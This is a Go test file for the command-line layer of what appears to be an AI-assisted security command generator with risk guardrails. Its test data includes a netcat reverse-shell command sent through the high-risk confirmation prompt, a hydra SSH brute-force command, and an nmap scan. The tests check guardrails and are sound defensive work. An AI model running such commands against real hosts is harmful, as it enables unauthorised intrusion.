package cli

import (
	"bytes"
	"errors"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/doeshing/strike-go/internal/domain"
)

func newTestPrompter(input string) (*Prompter, *bytes.Buffer) {
	var out bytes.Buffer
	reader := NewLineReader(strings.NewReader(input), &out)
	return NewPrompter(reader, NewRenderer(&out)), &out
}

func TestSelectModel(t *testing.T) {
	models := domain.RecommendedModels()
	custom := len(models) + 1

	tests := []struct {
		name    string
		input   string
		want    string
		invalid int
	}{
		{name: "listed", input: "2\n", want: models[1].Name},
		{name: "out of range then listed", input: "0\n99\nabc\n1\n", want: models[0].Name, invalid: 3},
		{name: "custom", input: "7\n  my-model:1b  \n", want: "my-model:1b"},
		{name: "custom empty retries", input: "7\n\n7\nqwen2:7b\n", want: "qwen2:7b"},
	}
	if custom != 7 {
		t.Fatalf("test inputs assume 6 recommended models, got %d", len(models))
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			prompter, out := newTestPrompter(tt.input)
			got, err := prompter.SelectModel(models)
			if err != nil {
				t.Fatalf("SelectModel error: %v", err)
			}
			if got != tt.want {
				t.Fatalf("SelectModel = %q, want %q", got, tt.want)
			}
			if n := strings.Count(out.String(), "Invalid selection. Please try again."); n != tt.invalid {
				t.Fatalf("invalid messages = %d, want %d", n, tt.invalid)
			}
			if !strings.Contains(out.String(), "7. Enter custom model name") {
				t.Fatalf("menu missing custom entry:\n%s", out.String())
			}
		})
	}
}

func TestSelectModelEmptyCustomMessage(t *testing.T) {
	prompter, out := newTestPrompter("7\n\n1\n")
	if _, err := prompter.SelectModel(domain.RecommendedModels()); err != nil {
		t.Fatalf("SelectModel error: %v", err)
	}
	if !strings.Contains(out.String(), "Model name cannot be empty.") {
		t.Fatalf("missing empty-name message:\n%s", out.String())
	}
}

func TestSelectModelEOF(t *testing.T) {
	prompter, _ := newTestPrompter("")
	if _, err := prompter.SelectModel(domain.RecommendedModels()); !errors.Is(err, io.EOF) {
		t.Fatalf("expected EOF, got %v", err)
	}
}

func TestConfirm(t *testing.T) {
	tests := []struct {
		name   string
		action domain.GuardrailAction
		input  string
		want   bool
	}{
		{name: "confirm yes", action: domain.ActionConfirm, input: "y\n", want: true},
		{name: "confirm default no", action: domain.ActionConfirm, input: "\n", want: false},
		{name: "explicit needs full word", action: domain.ActionExplicitConfirm, input: "y\n", want: false},
		{name: "explicit yes", action: domain.ActionExplicitConfirm, input: "yes\n", want: true},
		{name: "block never asks", action: domain.ActionBlock, input: "", want: false},
		{name: "allow passes", action: domain.ActionAllow, input: "", want: true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			prompter, _ := newTestPrompter(tt.input)
			got, err := prompter.Confirm(domain.RiskAssessment{Level: domain.RiskHigh, Action: tt.action}, "nc -e /bin/sh 10.0.0.1 4444")
			if err != nil {
				t.Fatalf("Confirm error: %v", err)
			}
			if got != tt.want {
				t.Fatalf("Confirm = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestBufferedReaderLastLineWithoutNewline(t *testing.T) {
	var out bytes.Buffer
	reader := NewLineReader(strings.NewReader("first\r\nsecond"), &out)

	for _, want := range []string{"first", "second"} {
		got, err := reader.ReadLine("> ")
		if err != nil {
			t.Fatalf("ReadLine error: %v", err)
		}
		if got != want {
			t.Fatalf("ReadLine = %q, want %q", got, want)
		}
	}
	if _, err := reader.ReadLine("> "); !errors.Is(err, io.EOF) {
		t.Fatalf("expected EOF, got %v", err)
	}
	if out.String() != "> > > " {
		t.Fatalf("prompts = %q", out.String())
	}
}

func TestProgressPrinterPrintsEachStatusOnce(t *testing.T) {
	var out bytes.Buffer
	printer := &progressPrinter{out: &out}
	for _, p := range []domain.PullProgress{
		{Status: "pulling manifest"},
		{Status: "downloading", Completed: 1, Total: 2},
		{Status: "downloading", Completed: 2, Total: 2},
		{Status: "success"},
	} {
		printer.update(p)
	}
	printer.finish()

	want := "pulling manifest\ndownloading\nsuccess\n"
	if out.String() != want {
		t.Fatalf("progress output = %q, want %q", out.String(), want)
	}
}

func TestRendererPlainOutput(t *testing.T) {
	var out bytes.Buffer
	render := NewRenderer(&out)
	if render.Interactive() {
		t.Fatal("a buffer is not a terminal")
	}

	render.Suggestion(domain.Suggestion{
		Command:     "hydra -l admin -P rockyou.txt ssh://10.0.0.5",
		Explanation: "Brute forces SSH logins.",
		Found:       true,
		Elapsed:     1500 * time.Millisecond,
		Risk: domain.RiskAssessment{
			Level:   domain.RiskMedium,
			Action:  domain.ActionConfirm,
			Reasons: []string{"Online brute force generates noisy traffic"},
		},
	})
	render.HealthReport(domain.HealthReport{Checks: []domain.HealthCheck{
		{Name: "Model", Status: domain.HealthWarn, Details: "gemma3:12b is not installed"},
	}})

	want := "\nGenerated Command: hydra -l admin -P rockyou.txt ssh://10.0.0.5\n" +
		"Generation time: 1.50s\n" +
		"\nBrute forces SSH logins.\n" +
		"\nRisk: MEDIUM (confirm)\n" +
		" - Online brute force generates noisy traffic\n" +
		"[WARN] Model - gemma3:12b is not installed\n"
	if out.String() != want {
		t.Fatalf("output mismatch\n--- got ---\n%s\n--- want ---\n%s", out.String(), want)
	}
}

func TestRendererHistory(t *testing.T) {
	var out bytes.Buffer
	render := NewRenderer(&out)

	render.History(nil)
	render.History([]domain.Exchange{
		{Prompt: "scan ports", Model: "gemma3:12b", Command: "nmap 10.0.0.5", Result: "done"},
		{Prompt: "say hi", Model: "llama3:8b"},
	})

	assertContains(t, out.String(),
		"No requests yet.",
		"1. [gemma3:12b] scan ports\n   $ nmap 10.0.0.5\n   (executed, simulated)\n",
		"2. [llama3:8b] say hi\n   (no command)\n")
}
